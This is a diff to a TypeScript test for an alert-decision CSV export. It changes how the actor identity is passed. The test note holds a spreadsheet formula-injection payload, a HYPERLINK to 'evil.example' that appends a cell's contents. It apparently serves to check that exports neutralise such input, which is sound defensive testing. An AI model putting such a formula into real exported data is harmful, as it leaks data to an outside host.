@@ -187,7 +187,13 @@ describe('exports', () => {
     const page = await call('alerts.query', { datasetId, status: 'pending', limit: 1 });
     const alertId = page.rows[0]!.id;
     const note = '=HYPERLINK("http://evil.example/?d="&A1,"details")';
-    await call('alerts.decide', { alertIds: [alertId], decision: 'approve', note, actor: '@x' });
+    // A hostile actor name can only come from a transport's identity (e.g. an analysts file).
+    await callService(
+      svc,
+      'alerts.decide',
+      { alertIds: [alertId], decision: 'approve', note },
+      { actor: '@x' },
+    );
     const csv = await call('export.decisions', { what: 'decisions', format: 'csv', datasetId });
     const [header, ...lines] = readFileSync(csv.path, 'utf8').trimEnd().split('\n');
     const columns = header!.split(',');
